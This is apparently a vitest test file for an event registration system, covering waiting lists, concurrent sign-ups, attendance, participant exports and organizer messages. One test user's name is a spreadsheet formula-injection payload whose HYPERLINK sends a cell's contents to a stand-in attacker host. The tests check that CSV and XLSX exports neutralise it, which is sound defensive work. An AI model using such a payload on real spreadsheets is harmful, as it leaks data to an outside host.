import { and, eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, test } from "vitest";
import { getDb } from "@/db/client";
import { activityLog, eventRegistrations, notifications } from "@/db/schema";
import { createCommunityRow, addMembership } from "@/test/community-factories";
import { communityWithRoles, organizerOutcomes, type RoleName, type RoleWorld } from "@/test/community-roles";
import { addRegistration, createEventRow } from "@/test/event-factories";
import { createUser, latestMail, tableCounts, type TestUser } from "@/test/factories";
import { exportParticipants } from "./participants-export";
import { cancelRegistration, listParticipants, markAttendance, messageRegistrants, registerForEvent, viewerRegistration } from "./registrations";

const baseUrl = "https://metodset.example";
const hour = 3_600_000;
let world: RoleWorld;

beforeAll(async () => {
  world = await communityWithRoles();
});

async function registrationOf(eventId: string, userId: string) {
  const db = await getDb();
  const [row] = await db.select().from(eventRegistrations).where(and(eq(eventRegistrations.eventId, eventId), eq(eventRegistrations.userId, userId)));
  return row;
}

async function activities(eventId: string, verb: string) {
  const db = await getDb();
  return db.select().from(activityLog).where(and(eq(activityLog.objectId, eventId), eq(activityLog.verb, verb)));
}

async function notificationsOf(userId: string, kind: string) {
  const db = await getDb();
  return db.select().from(notifications).where(and(eq(notifications.userId, userId), eq(notifications.kind, kind)));
}

function people(n: number) {
  return Promise.all(Array.from({ length: n }, (_, i) => createUser({ fullName: `Слушатель ${i + 1}` })));
}

describe("registerForEvent", () => {
  test("takes a place, logs the registration with the community id, and refuses a second one writing nothing", async () => {
    const event = await createEventRow({ communityId: world.community.id, capacity: 10 });
    const member = world.users.member;
    expect(await registerForEvent({ actor: member.actor, eventId: event.id })).toEqual({ ok: true, data: { status: "registered" } });
    const logged = await activities(event.id, "event.registered");
    expect(logged).toHaveLength(1);
    expect(logged[0]).toMatchObject({ actorId: member.id, objectType: "event", communityId: world.community.id });

    const before = await tableCounts();
    expect(await registerForEvent({ actor: member.actor, eventId: event.id })).toEqual({ ok: false, error: "alreadyRegistered" });
    expect(await tableCounts()).toEqual(before);
  });

  test("a guest is told to sign in; an unknown or malformed id is not found", async () => {
    const event = await createEventRow({ communityId: world.community.id });
    await expect(registerForEvent({ actor: null, eventId: event.id })).rejects.toMatchObject({ code: "unauthenticated" });
    await expect(registerForEvent({ actor: world.users.member.actor, eventId: "not-a-uuid" })).rejects.toMatchObject({ code: "notFound" });
    await expect(registerForEvent({ actor: world.users.member.actor, eventId: "00000000-0000-4000-8000-000000000000" })).rejects.toMatchObject({ code: "notFound" });
  });

  test.each([
    ["after the deadline", { registrationDeadline: new Date(Date.now() - hour) }, "deadlinePassed"],
    ["after the start", { startsAt: new Date(Date.now() - hour), endsAt: new Date(Date.now() + hour) }, "eventStarted"],
    ["for a cancelled event", { status: "cancelled" as const, cancelReason: "Болезнь ведущего" }, "eventCancelled"],
    ["for a members-only event as a non-member", { audience: "members" as const }, "membersOnly"],
  ])("refuses %s, writing nothing", async (_, options, error) => {
    const event = await createEventRow({ communityId: world.community.id, ...options });
    const before = await tableCounts();
    expect(await registerForEvent({ actor: world.users.nonMember.actor, eventId: event.id })).toEqual({ ok: false, error });
    expect(await tableCounts()).toEqual(before);
  });

  test.each<[RoleName, boolean]>([
    ["nonMember", false],
    ["member", true],
    ["moderatorHere", true],
    ["leader", true],
    ["moderatorElsewhere", false],
  ])("a members-only event: %s may register → %s", async (role, allowed) => {
    const event = await createEventRow({ communityId: world.community.id, audience: "members" });
    const result = await registerForEvent({ actor: world.actor(role), eventId: event.id });
    expect(result.ok).toBe(allowed);
  });

  test("an event of a members-only community does not exist for outsiders; a switched-off service closes registration", async () => {
    const closed = await createCommunityRow({ visibility: "members" });
    const hidden = await createEventRow({ communityId: closed.id });
    await expect(registerForEvent({ actor: world.users.nonMember.actor, eventId: hidden.id })).rejects.toMatchObject({ code: "notFound" });

    const off = await createCommunityRow({ services: [] });
    const leader = await createUser();
    await addMembership(off.id, { userId: leader.id }, { role: "leader" });
    const quiet = await createEventRow({ communityId: off.id });
    await expect(registerForEvent({ actor: world.users.nonMember.actor, eventId: quiet.id })).rejects.toMatchObject({ code: "notFound" });
    expect(await registerForEvent({ actor: leader.actor, eventId: quiet.id })).toEqual({ ok: false, error: "registrationClosed" });
  });

  test("a platform-wide event is open to anyone signed in", async () => {
    const event = await createEventRow({ communityId: null });
    expect(await registerForEvent({ actor: world.users.nonMember.actor, eventId: event.id })).toEqual({ ok: true, data: { status: "registered" } });
  });
});

describe("capacity and the waiting list", () => {
  test("a full event puts people on the waiting list; a cancellation promotes the first in the queue and tells them", async () => {
    const event = await createEventRow({ communityId: world.community.id, capacity: 2, title: "Мастер-класс по скетчноутингу" });
    const [a, b, c, d] = await people(4);
    for (const person of [a!, b!, c!, d!]) await registerForEvent({ actor: person.actor, eventId: event.id });
    expect((await registrationOf(event.id, c!.id))?.status).toBe("waitlisted");
    expect((await viewerRegistration({ actor: c!.actor, eventId: event.id })).queuePosition).toBe(1);
    expect((await viewerRegistration({ actor: d!.actor, eventId: event.id })).queuePosition).toBe(2);
    expect(await viewerRegistration({ actor: a!.actor, eventId: event.id })).toMatchObject({ status: "registered", taken: 2, waiting: 2, placesLeft: 0 });

    expect(await cancelRegistration({ actor: b!.actor, eventId: event.id, baseUrl })).toEqual({ ok: true, data: { promoted: [c!.id] } });
    expect((await registrationOf(event.id, b!.id))?.status).toBe("cancelled");
    expect((await registrationOf(event.id, c!.id))?.status).toBe("registered");
    expect((await registrationOf(event.id, d!.id))?.status).toBe("waitlisted");
    expect((await viewerRegistration({ actor: d!.actor, eventId: event.id })).queuePosition).toBe(1);
    expect(await notificationsOf(c!.id, "event.promoted")).toHaveLength(1);
    expect(await notificationsOf(d!.id, "event.promoted")).toHaveLength(0);
    const mail = await latestMail(c!.email);
    expect(mail?.subject).toContain("Мастер-класс по скетчноутингу");
    expect(mail?.body).toContain(`${baseUrl}/ru/events/${event.id}`);
    expect(await activities(event.id, "event.cancelled_registration")).toEqual([expect.objectContaining({ actorId: b!.id, communityId: world.community.id })]);

    // A waitlisted person leaving promotes nobody.
    expect(await cancelRegistration({ actor: d!.actor, eventId: event.id, baseUrl })).toEqual({ ok: true, data: { promoted: [] } });
  });

  test("someone who cancelled may register again and goes to the end of the queue", async () => {
    const event = await createEventRow({ communityId: world.community.id, capacity: 1 });
    const [a, b, c] = await people(3);
    await registerForEvent({ actor: a!.actor, eventId: event.id });
    await registerForEvent({ actor: b!.actor, eventId: event.id });
    await cancelRegistration({ actor: b!.actor, eventId: event.id, baseUrl });
    await registerForEvent({ actor: c!.actor, eventId: event.id });
    expect(await registerForEvent({ actor: b!.actor, eventId: event.id })).toEqual({ ok: true, data: { status: "waitlisted" } });
    expect((await viewerRegistration({ actor: b!.actor, eventId: event.id })).queuePosition).toBe(2);
    await cancelRegistration({ actor: a!.actor, eventId: event.id, baseUrl });
    expect((await registrationOf(event.id, c!.id))?.status).toBe("registered");
    expect((await registrationOf(event.id, b!.id))?.status).toBe("waitlisted");
  });

  test("cancelling what one does not hold, or after the start, is refused", async () => {
    const event = await createEventRow({ communityId: world.community.id });
    const [a] = await people(1);
    expect(await cancelRegistration({ actor: a!.actor, eventId: event.id, baseUrl })).toEqual({ ok: false, error: "notRegistered" });
    const started = await createEventRow({ communityId: world.community.id, startsAt: new Date(Date.now() - hour), endsAt: new Date(Date.now() + hour) });
    await addRegistration(started.id, a!.id);
    expect(await cancelRegistration({ actor: a!.actor, eventId: started.id, baseUrl })).toEqual({ ok: false, error: "eventStarted" });
  });

  test("no over-booking: 12 people registering at once for 3 places get 3 places and a queue of 9", async () => {
    const event = await createEventRow({ communityId: world.community.id, capacity: 3 });
    const crowd = await people(12);
    const results = await Promise.all(crowd.map((person) => registerForEvent({ actor: person.actor, eventId: event.id })));
    const statuses = results.map((r) => (r.ok ? r.data.status : r.error));
    expect(statuses.filter((s) => s === "registered")).toHaveLength(3);
    expect(statuses.filter((s) => s === "waitlisted")).toHaveLength(9);
    const view = await viewerRegistration({ actor: crowd[0]!.actor, eventId: event.id });
    expect(view).toMatchObject({ taken: 3, waiting: 9 });
    // Every waiting person has their own place in the queue, even when they joined in the same instant.
    const waitlisted = crowd.filter((_, i) => results[i]!.ok && (results[i] as { data: { status: string } }).data.status === "waitlisted");
    const positions = await Promise.all(waitlisted.map(async (person) => (await viewerRegistration({ actor: person.actor, eventId: event.id })).queuePosition));
    expect(positions.sort((x, y) => x! - y!)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9]);

    // And at once again: the registered three cancel while the queue is promoted, never beyond 3.
    const registered = crowd.filter((_, i) => results[i]!.ok && (results[i] as { data: { status: string } }).data.status === "registered");
    await Promise.all(registered.map((person) => cancelRegistration({ actor: person.actor, eventId: event.id, baseUrl })));
    expect(await viewerRegistration({ actor: crowd[0]!.actor, eventId: event.id })).toMatchObject({ taken: 3, waiting: 6 });
  });
});

describe("organizers: the list, attendance, exports and messages", () => {
  let past: Awaited<ReturnType<typeof createEventRow>>;
  let upcoming: Awaited<ReturnType<typeof createEventRow>>;
  let first: TestUser;
  let second: TestUser;
  let waiting: TestUser;

  beforeAll(async () => {
    past = await createEventRow({ communityId: world.community.id, capacity: 2, startsAt: new Date(Date.now() - 2 * hour), endsAt: new Date(Date.now() - hour) });
    upcoming = await createEventRow({ communityId: world.community.id });
    first = await createUser({ fullName: '=HYPERLINK("http://evil.example/?x="&A1;"Нажмите")' });
    second = await createUser({ fullName: "Петрова Анна Сергеевна" });
    waiting = await createUser({ fullName: "Сидоров Олег" });
    await addRegistration(past.id, first.id, "registered", new Date(Date.now() - 5 * hour));
    await addRegistration(past.id, second.id, "registered", new Date(Date.now() - 4 * hour));
    await addRegistration(past.id, waiting.id, "waitlisted", new Date(Date.now() - 3 * hour));
    await addRegistration(upcoming.id, second.id);
  });

  test.each(organizerOutcomes)("the participant list for %s → %s", async (role, expected) => {
    const call = listParticipants({ actor: world.actor(role), eventId: past.id });
    if (expected !== "ok") return void (await expect(call).rejects.toMatchObject({ code: expected }));
    const { participants } = await call;
    expect(participants.map((p) => [p.fullName, p.status])).toEqual([
      [first.fullName, "registered"],
      [second.fullName, "registered"],
      [waiting.fullName, "waitlisted"],
    ]);
    // No contacts, ever.
    expect(JSON.stringify(participants)).not.toContain("@example.test");
    expect(Object.keys(participants[0]!).sort()).toEqual(["attended", "fullName", "organization", "queuedAt", "status", "userId"]);
  });

  test("attendance is saved in bulk after the start, for registered people only, and logged per attendee", async () => {
    const leader = world.users.leader.actor;
    expect(await markAttendance({ actor: leader, eventId: upcoming.id, input: { present: [second.id] } })).toEqual({ ok: false, error: "notStartedYet" });
    expect(await markAttendance({ actor: leader, eventId: past.id, input: { present: [waiting.id] } })).toEqual({ ok: false, error: "notAParticipant" });
    expect(await markAttendance({ actor: leader, eventId: past.id, input: { present: ["x"] } })).toMatchObject({ ok: false, error: "invalid" });
    await expect(markAttendance({ actor: world.users.member.actor, eventId: past.id, input: { present: [] } })).rejects.toMatchObject({ code: "forbidden" });

    expect(await markAttendance({ actor: leader, eventId: past.id, input: { present: [first.id, second.id] } })).toEqual({ ok: true, data: { attended: 2 } });
    expect((await registrationOf(past.id, first.id))?.attended).toBe(true);
    expect(await markAttendance({ actor: leader, eventId: past.id, input: { present: [second.id] } })).toEqual({ ok: true, data: { attended: 1 } });
    expect((await registrationOf(past.id, first.id))?.attended).toBe(false);
    expect((await registrationOf(past.id, second.id))?.attended).toBe(true);
    const logged = await activities(past.id, "event.attended");
    expect(logged.map((row) => row.actorId).sort()).toEqual([first.id, second.id].sort());
    expect(logged.every((row) => row.communityId === world.community.id)).toBe(true);
  });

  test("the CSV parses back with neutralised formulas, statuses and attendance, and no contacts", async () => {
    await markAttendance({ actor: world.users.leader.actor, eventId: past.id, input: { present: [second.id] } });
    const file = await exportParticipants({ actor: world.users.moderatorHere.actor, eventId: past.id, locale: "ru", format: "csv" });
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    const text = file.content.toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    expect(text).not.toContain("@example.test");
    const records = parseCsv(text.slice(1));
    expect(records[0]).toEqual(["№", "ФИО", "Организация", "Статус", "Присутствовал"]);
    expect(records[1]![1]).toBe(`'${first.fullName}`);
    expect(records[2]!.slice(1)).toEqual([second.fullName, expect.any(String), "Зарегистрирован", "да"]);
    expect(records[3]![3]).toBe("Лист ожидания");
    // No cell of the file starts with a formula character.
    expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  test("the XLSX parses back in English with the neutralised name", async () => {
    const file = await exportParticipants({ actor: world.users.administrator.actor, eventId: past.id, locale: "en", format: "xlsx" });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.content as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe("Participants");
    expect(sheet.getRow(2).values).toEqual([undefined, "No.", "Name", "Organization", "Status", "Attended"]);
    expect(sheet.getRow(3).getCell(2).value).toBe(`'${first.fullName}`);
    expect(sheet.getRow(5).getCell(4).value).toBe("Waiting list");
  });

  test("exports are refused to those who may not see the list", async () => {
    await expect(exportParticipants({ actor: world.users.member.actor, eventId: past.id, locale: "ru", format: "csv" })).rejects.toMatchObject({ code: "forbidden" });
    await expect(exportParticipants({ actor: null, eventId: past.id, locale: "ru", format: "xlsx" })).rejects.toMatchObject({ code: "unauthenticated" });
  });

  test("a message reaches the registered (bell and mail), the waiting list only when asked", async () => {
    const input = { subject: "Ссылка на трансляцию", body: "Подключайтесь за 10 минут до начала." };
    expect(await messageRegistrants({ actor: world.users.leader.actor, eventId: past.id, input, baseUrl })).toEqual({ ok: true, data: { recipients: 2 } });
    expect(await notificationsOf(second.id, "event.message")).toHaveLength(1);
    expect(await notificationsOf(waiting.id, "event.message")).toHaveLength(0);
    const mail = await latestMail(second.email);
    expect(mail?.subject).toContain("Ссылка на трансляцию");
    expect(mail?.body).toContain("Подключайтесь за 10 минут до начала.");
    expect(await messageRegistrants({ actor: world.users.leader.actor, eventId: past.id, input: { ...input, includeWaitlisted: true }, baseUrl })).toEqual({ ok: true, data: { recipients: 3 } });
    expect(await notificationsOf(waiting.id, "event.message")).toHaveLength(1);
  });

  test("a message with bad input, to nobody, or from a non-organizer writes nothing", async () => {
    const before = await tableCounts();
    expect(await messageRegistrants({ actor: world.users.leader.actor, eventId: past.id, input: { subject: "x", body: "коротко" }, baseUrl })).toEqual({
      ok: false,
      error: "invalid",
      fieldErrors: { subject: "subjectTooShort", body: "bodyTooShort" },
    });
    const empty = await createEventRow({ communityId: world.community.id });
    const afterCreate = await tableCounts();
    expect(await messageRegistrants({ actor: world.users.leader.actor, eventId: empty.id, input: { subject: "Тема письма", body: "Текст письма участникам" }, baseUrl })).toEqual({ ok: false, error: "noRecipients" });
    await expect(messageRegistrants({ actor: world.users.member.actor, eventId: past.id, input: { subject: "Тема письма", body: "Текст письма участникам" }, baseUrl })).rejects.toMatchObject({ code: "forbidden" });
    expect(await tableCounts()).toEqual(afterCreate);
    expect(afterCreate.events).toBe(before.events! + 1);
  });
});

/** A minimal RFC 4180 reader (";" separated) — enough to prove the file parses back. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    record.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ";") endCell();
    else if (ch === "\r" && text[i + 1] === "\n") {
      endCell();
      records.push(record);
      record = [];
      i += 1;
    } else cell += ch;
  }
  if (cell || record.length > 0) {
    endCell();
    records.push(record);
  }
  return records;
}
